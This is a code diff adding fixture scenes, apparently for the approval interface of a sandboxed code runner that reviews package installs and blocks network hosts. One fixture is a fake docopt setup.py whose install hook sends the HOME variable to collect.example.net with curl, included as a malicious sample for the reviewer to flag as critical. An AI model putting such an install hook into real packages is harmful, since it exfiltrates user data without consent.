@@ -8,12 +8,12 @@ from dataclasses import replace
 from typing import TYPE_CHECKING, Any
 
 from runner.approval.hosts import PrivateAddress
-from runner.model.assessment import Level, Touch
+from runner.model.assessment import WHOLE, Capability, Level, Touch
 from runner.model.events import GrantsChanged, HostContacted, RunMeasured, SandboxesChanged
 from runner.model.kept_sandbox import Kept
 from runner.model.network import NOT_LISTED, Contact, Destination
-from runner.model.plan import Plan, PlannedPackage, Registry
-from runner.model.request import Isolation, Language, NetworkMode
+from runner.model.plan import BuildFile, OwnProgram, Plan, PlannedPackage, ProgramKind, Registry
+from runner.model.request import Isolation, Language, NetworkMode, Tool
 from runner.model.result import Outcome, Usage
 from runner.policy.host_grants import for_host
 from runner.sandbox.output import Stream, Transcript
@@ -115,6 +115,59 @@ def review_plan(scene: Scene, odd: bool = False) -> None:
     scene.hear(feed.asked(install(plan=plan(odd)), feed.assessment(Level.HIGH)))
 
 
+SETUP = """from setuptools import setup
+from setuptools.command.install import install
+import os, subprocess
+
+
+class Report(install):
+    def run(self):
+        subprocess.run(["curl", "-d", os.environ.get("HOME", ""), "https://collect.example.net/"])
+        super().run()
+
+
+setup(name="docopt", version="0.6.2", py_modules=["docopt"], cmdclass={"install": Report})
+"""
+
+
+def built() -> Plan:
+    """One package that has to be built, beside others that are ready."""
+    tool = BuildFile("setuptools", "80.9.0", "setuptools-80.9.0-py3-none-any.whl", "5c" * 32, 1_250_000, "")
+    line = "setuptools.build_meta:__legacy__, of a package that it is built with; needs setuptools>=40.8.0"
+    programs = (OwnProgram("build", line), OwnProgram("setup.py", SETUP, ProgramKind.PYTHON))
+    one = package(
+        "docopt", "0.6.2", 4200, file="docopt-0.6.2.tar.gz", size=25_900, versions=11,
+        summary="Pythonic argument parser, that will make you smile", programs=programs, build_files=(tool,),
+    )  # fmt: skip
+    return replace(plan(), packages=(one, *plan().packages))
+
+
+def scripted() -> Plan:
+    """Packages of npm, two of which have install scripts."""
+    script = OwnProgram("postinstall", "node install.js", ProgramKind.SHELL)
+    names = (("esbuild", (script,)), ("@esbuild/linux-x64", ()), ("node-gyp-build", ()), ("prebuild-install", ()))
+    found = tuple(
+        package(name, "0.28.2", 30, place=name, programs=programs, scripts=tuple(one.name for one in programs),
+                wanted_by=() if name == "esbuild" else ("esbuild",), file=f"{name.rpartition('/')[2]}-0.28.2.tgz")
+        for name, programs in names
+    )  # fmt: skip
+    return Plan(Registry.NPM, ("registry.packages.example",), found, "Node.js 20.19, linux x64")
+
+
+def review_built(scene: Scene, plan: Plan) -> None:
+    (one,) = plan.built
+    names = ", ".join(program.name for program in one.programs)
+    said = (
+        f"It runs programs of its own while it is installed: {names}.",
+        f"In {one.title}, {one.programs[-1].name}: Starts other programs.",
+    )
+    found = tuple(
+        replace(feed.finding(1, text, Level.CRITICAL, Capability.PACKAGES), span=WHOLE, evidence=one.title)
+        for text in said
+    )
+    scene.hear(feed.asked(install(plan=plan), feed.assessment(Level.CRITICAL, *found)))
+
+
 def review_plan_long(scene: Scene) -> None:
     many = tuple(package(f"library-{number:03}", f"1.{number}", 30 + number) for number in range(120))
     scene.hear(feed.asked(install(plan=replace(plan(), packages=many)), feed.assessment(Level.HIGH)))
@@ -134,6 +187,8 @@ SCENES: dict[str, Callable[[Scene], None]] = {
     "packages-review": review_plan,
     "packages-odd": lambda scene: review_plan(scene, odd=True),
     "packages-long": review_plan_long,
+    "packages-built": lambda scene: review_built(scene, built()),
+    "packages-scripts": lambda scene: review_built(scene, scripted()),
     "packages-code": review_plan_with_code,
 }
 
@@ -173,6 +228,14 @@ def run_refused(scene: Scene) -> None:
 def run_many(scene: Scene) -> None:
     names = (f"{number:032x}.exfiltration-by-names.example" for number in range(14))
     run(scene, REACHED, refused("blocked.example", 3), *(refused(name) for name in names))
+
+
+def run_build(scene: Scene) -> None:
+    """A build that asks for a host."""
+    one = replace(install(plan=built()), id="building", tool=Tool.CODE_INSTALL_PACKAGE, language=None)
+    scene.hear(feed.asked(one, feed.assessment(Level.CRITICAL)), feed.decided(one), feed.started(one))
+    scene.hear(contacted(one, refused("files.example.net")))
+    scene.window.show_page("Running")
 
 
 def run_nothing_refused(scene: Scene) -> None:
@@ -286,6 +349,7 @@ CURVE = tuple(
 )
 SCENES |= {
     "network-run-refused": run_refused,
+    "packages-building": run_build,
     "network-run-many": run_many,
     "network-run-nothing": run_nothing_refused,
     "network-run-said": run_said,
